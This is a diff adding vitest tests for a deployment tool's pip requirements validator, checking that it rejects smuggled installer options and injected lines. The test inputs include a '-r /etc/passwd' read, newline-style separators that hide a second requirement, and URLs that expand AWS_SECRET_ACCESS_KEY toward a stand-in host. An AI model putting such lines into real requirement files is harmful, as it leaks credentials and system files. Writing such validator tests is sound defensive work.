@@ -3,7 +3,7 @@ import { dirname, join } from 'node:path';
 import { describe, expect, test } from 'vitest';
 import { startOf } from '../../../src/agentcore/deploy/entry-point.ts';
 import { environmentOf } from '../../../src/agentcore/deploy/environment.ts';
-import { requirementsOf } from '../../../src/agentcore/deploy/requirements.ts';
+import { checkedRequirement, requirementsOf } from '../../../src/agentcore/deploy/requirements.ts';
 import { type SourceFile, sourceOfPath, sourceOfTexts } from '../../../src/agentcore/deploy/source.ts';
 import { Workspace } from '../../../src/agentcore/workspace.ts';
 import { redact } from '../../../src/secrets.ts';
@@ -190,6 +190,39 @@ describe('requirements', () => {
     const files = filesOf({ 'requirements.txt': `six\n${line}\n`, 'constraints.txt': '' });
     const details = expect.objectContaining({ code: 'Requirements' });
     expect(() => requirementsOf(files)).toThrow(expect.objectContaining({ details }));
+  });
+
+  test.each([
+    '--pre -e git+https://example.com/x.git',
+    '--index-url https://example.com/simple -r /etc/passwd',
+    '-i https://example.com/simple --trusted-host example.com',
+    '--no-index --find-links https://example.com',
+    'six==1.0 --config-settings="--global-option=x"',
+    'six==1.0\u2028git+https://example.com/x.git',
+    'six==1.0\u000c./mine',
+    'six==1.0\rgit+https://example.com/x.git',
+    '--index-url https://example.com/\x24{AWS_SECRET_ACCESS_KEY}/simple',
+    'six @ https://example.com/\x24{AWS_SECRET_ACCESS_KEY}/six-1.0-py3-none-any.whl',
+  ])('get no further line, option or value of this process into the installer: %j', (line) => {
+    const details = expect.objectContaining({ code: 'Requirements' });
+    const files = filesOf({ 'requirements.txt': `${line}\n` });
+    expect(() => requirementsOf(files)).toThrow(expect.objectContaining({ details }));
+    expect(() => checkedRequirement(`six==1.0\n${line}`, 'pyproject.toml')).toThrow(
+      expect.objectContaining({ details }),
+    );
+  });
+
+  test('may come with their hashes, extras and markers', () => {
+    const line =
+      'strands-agents[otel]>=1.0,<2 ; python_version < "3.14" --hash=sha256:00ff --hash=sha256:11ee';
+    const files = filesOf({
+      'requirements.txt': `${line}\n--index-url=https://example.com/simple\n-i https://a.example/s`,
+    });
+    expect(requirementsOf(files)).toEqual([
+      line,
+      '--index-url=https://example.com/simple',
+      '-i https://a.example/s',
+    ]);
   });
 });
 
